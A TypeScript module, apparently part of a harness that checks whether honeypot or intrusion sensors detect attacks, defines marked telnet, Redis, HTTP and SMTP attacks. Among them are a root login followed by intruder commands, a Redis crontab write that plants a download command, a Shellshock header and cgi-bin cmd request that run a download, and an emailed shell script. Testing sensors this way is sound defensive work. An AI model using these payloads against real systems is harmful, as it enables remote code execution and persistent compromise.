import { downloadCommand, intrusionCommands, MAX_LOGINS, type SensorAttack } from './attack.js'
import { converse } from './conversation.js'

/** Logs in with the marker as the password, then with one that is known to be accepted where it is refused, and gives the commands of an intruder. */
export const telnetAttack: SensorAttack = (where, { marker, deadline }) =>
  converse(where, deadline, async ({ until, send }) => {
    await until(/(?:login|username):\s*$/i)
    for (let attempt = 1; ; attempt += 1) {
      send('root\r\n')
      await until(/password:\s*$/i)
      send(`${attempt === 1 ? marker : (where.password ?? marker)}\r\n`)
      const [answer] = await until(/(?:login|username):\s*$|[#$>]\s*$/i)
      if (/[#$>]\s*$/.test(answer)) break
      if (attempt === MAX_LOGINS) return
    }
    for (const command of intrusionCommands(marker)) {
      send(`${command}\r\n`)
      await until(/[#$>]\s*$/)
    }
    send('exit\r\n')
  })

/** Writes a crontab through the configuration of Redis, as worms do. */
export const redisAttack: SensorAttack = (where, { marker, deadline }) =>
  converse(where, deadline, async ({ until, send }) => {
    for (const command of [
      `AUTH ${marker}`,
      `SET x "\\n* * * * * ${downloadCommand('x')} #${marker}\\n"`,
      'CONFIG SET dir /var/spool/cron',
      'CONFIG SET dbfilename root',
      'SAVE',
    ]) {
      send(`${command}\r\n`)
      await until(/\r\n/)
    }
    send('QUIT\r\n')
  })

/** Asks a web server to run a download, by the ways that scanners try every day; the marker is in each request. */
export const httpAttack: SensorAttack = (where, { marker, deadline }) =>
  converse(where, deadline, async ({ until, send }) => {
    const download = downloadCommand(marker)
    const head = `Host: ${where.host}\r\nUser-Agent: ${marker}\r\n`
    const login = `log=admin&pwd=${marker}`
    send(
      `POST /wp-login.php HTTP/1.1\r\n${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${login.length}\r\n\r\n${login}`,
    )
    await until(/HTTP\/1\.[01] \d{3}/)
    const shell = `() { :; }; /bin/bash -c "${download}"`
    send(
      `GET /cgi-bin/status?cmd=${encodeURIComponent(download)} HTTP/1.1\r\n${head}Referer: ${shell}\r\nConnection: close\r\n\r\n`,
    )
  })

/** Greets with the marker and hands over a message with a program. Its addresses are in a domain that does not exist (RFC 2606). */
export const smtpAttack: SensorAttack = (where, { marker, deadline }) =>
  converse(where, deadline, async ({ until, send }) => {
    const from = `${marker}@mail.invalid`
    await until(REPLY)
    for (const command of [
      `EHLO ${marker}.invalid`,
      `MAIL FROM:<${from}>`,
      'RCPT TO:<accounts@office.invalid>',
      'DATA',
    ]) {
      send(`${command}\r\n`)
      const [, code = ''] = await until(REPLY)
      if (!/^[23]/.test(code)) return send('QUIT\r\n')
    }
    send(
      `From: <${from}>\r\nTo: <accounts@office.invalid>\r\nSubject: Invoice ${marker}\r\n\r\n#!/bin/sh\r\n${downloadCommand(marker)}\r\n.\r\n`,
    )
    await until(REPLY)
    send('QUIT\r\n')
  })

/** The last line of a reply of SMTP and FTP, whole (RFC 5321, section 4.2; RFC 959, section 4.2). */
export const REPLY = /(?:^|\n)(\d{3}) [^\n]*\n$/
